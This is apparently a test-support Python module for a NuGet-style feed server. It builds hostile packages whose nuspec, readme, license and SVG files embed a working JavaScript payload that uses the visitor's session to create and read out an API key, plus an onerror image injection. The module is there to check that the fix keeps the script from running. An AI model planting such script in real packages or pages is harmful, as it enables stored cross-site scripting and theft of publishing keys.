"""Packages whose files try to act as pages of the feed's site (issue 10, item 1).

The script they carry does what an attacker's would: it fetches the API key form with the visitor's
session cookie, posts it back (CSRF token included) for a push+unlist key on ``*``, and reads the secret
from the answer. Before it starts, it asks for ``/?package-file-script-ran=<where>``: a request any test
can watch for. Served as a document a browser runs script in, it works (it did, on the nuspec, before
the fix); served as nugat serves package files now, it never runs.
"""

from __future__ import annotations

import struct
import zlib

from support.zips import nuspec, package

SCRIPT_RAN = "package-file-script-ran"
STOLEN_KEY_NAME = "stolen-by-a-package-file"

_SCRIPT = """
(async () => {
  await fetch('/?%(marker)s=%(where)s');
  const form = await (await fetch('/account/apikeys/new')).text();
  const parsed = new DOMParser().parseFromString(form, 'text/html').querySelector('form.key-form');
  const fields = new FormData(parsed);
  fields.set('name', '%(name)s');
  fields.set('glob', '*');
  fields.set('unlist', 'on');
  const body = new URLSearchParams(fields);
  const answer = await fetch(parsed.getAttribute('action'), {method: 'POST', body: body});
  const secret = (await answer.text()).match(/nugat_[A-Za-z0-9_]+/);
  await fetch('/?%(marker)s=stolen-' + (secret ? secret[0].length : 0));
})();
"""


def script(where: str) -> str:
    """The key-stealing script; ``where`` names the file it was found in (in its marker request)."""
    return _SCRIPT % {"marker": SCRIPT_RAN, "where": where, "name": STOLEN_KEY_NAME}


def hostile_nuspec(package_id: str, version: str, extra: str = "") -> bytes:
    """A valid nuspec that also holds an XHTML-namespaced script (a browser showing it as XML runs it)."""
    spec = nuspec(package_id, version, extra=extra).decode()
    xhtml = f'<x:script xmlns:x="http://www.w3.org/1999/xhtml"><![CDATA[{script("nuspec")}]]></x:script>'
    return spec.replace("</package>", f"{xhtml}</package>").encode()


def html_with_script(where: str) -> bytes:
    return (
        f"<!DOCTYPE html><html><body><h1>Read me</h1><script>{script(where)}</script>"
        f"<img src=x onerror=\"fetch('/?{SCRIPT_RAN}={where}-onerror')\"></body></html>"
    ).encode()


def svg_with_script() -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f"<script><![CDATA[{script('svg-icon')}]]></script></svg>"
    ).encode()


def png_image() -> bytes:
    """A real 1x1 PNG (a browser shows it)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1x1, 8-bit RGB
    pixels = zlib.compress(b"\x00\xff\x80\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


JPEG_START = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"


def hostile_package(package_id: str, version: str = "1.0.0", icon: tuple[str, bytes] | None = None) -> bytes:
    """Every package file hostile: the nuspec (XHTML script), the readme and the license (HTML with
    script); ``icon``: its name and bytes (a PNG by default)."""
    icon_name, icon_bytes = icon or ("images/icon.png", png_image())
    extra = (
        f'<readme>docs/README.md</readme><icon>{icon_name}</icon><license type="file">LICENSE.txt</license>'
    )
    files = {
        "docs/README.md": html_with_script("readme"),
        "LICENSE.txt": html_with_script("license"),
        icon_name: icon_bytes,
    }
    return package(package_id, version, spec=hostile_nuspec(package_id, version, extra), files=files)


def file_paths(package_id: str, version: str = "1.0.0") -> dict[str, str]:
    """The URL path of each file of a pushed package, and of its documents, by name."""
    i, v = package_id.lower(), version.lower()
    flat = f"/v3/flatcontainer/{i}"
    return {
        "nuspec": f"{flat}/{v}/{i}.nuspec",
        "nupkg": f"{flat}/{v}/{i}.{v}.nupkg",
        "readme": f"{flat}/{v}/readme",
        "license": f"{flat}/{v}/license",
        "icon": f"{flat}/{v}/icon",
        "flat index": f"{flat}/index.json",
        "registration": f"/v3/registration/{i}/index.json",
        "leaf": f"/v3/registration-semver2/{i}/{v}.json",
    }
